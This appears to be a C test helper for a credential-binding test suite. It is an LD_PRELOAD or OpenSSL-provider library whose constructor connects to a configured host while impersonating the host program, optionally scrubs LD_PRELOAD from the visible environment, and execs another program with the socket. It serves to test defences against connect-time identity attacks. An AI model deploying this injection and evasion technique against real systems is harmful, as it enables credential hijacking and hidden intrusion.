/* For tests/test_credentials.py: loaded into a program a credential is bound to (by
 * LD_PRELOAD or as an OpenSSL provider), connect to HJ_HOST:HJ_PORT while we are that
 * program, then exec HJ_EXEC HJ_SCRIPT (another program) with the connected socket in
 * HJ_FD. With HJ_SCRUB, first overwrite LD_PRELOAD in the original environment block,
 * which /proc/PID/environ shows. An attack on binding by connect-time identity. */
#define _GNU_SOURCE
#include <netdb.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>
extern char **environ;

__attribute__((constructor)) static void handoff(void) {
    const char *host = getenv("HJ_HOST"), *port = getenv("HJ_PORT");
    const char *exe = getenv("HJ_EXEC"), *script = getenv("HJ_SCRIPT");
    if (!host || !port || !exe || !script)
        return;
    if (getenv("HJ_SCRUB"))
        for (char **e = environ; *e; e++)
            if (strncmp(*e, "LD_PRELOAD=", 11) == 0)
                memcpy(*e, "XX", 2);
    struct addrinfo hints = {0}, *res;
    hints.ai_family = AF_INET;
    hints.ai_socktype = SOCK_STREAM;
    if (getaddrinfo(host, port, &hints, &res) != 0)
        _exit(91);
    int s = socket(AF_INET, SOCK_STREAM, 0);
    if (connect(s, res->ai_addr, res->ai_addrlen) != 0)
        _exit(92);
    char fd[16];
    snprintf(fd, sizeof fd, "%d", s);
    setenv("HJ_FD", fd, 1);
    unsetenv("HJ_EXEC");
    unsetenv("LD_PRELOAD");
    unsetenv("OPENSSL_CONF");
    execl(exe, exe, script, (char *)0);
    _exit(93);
}
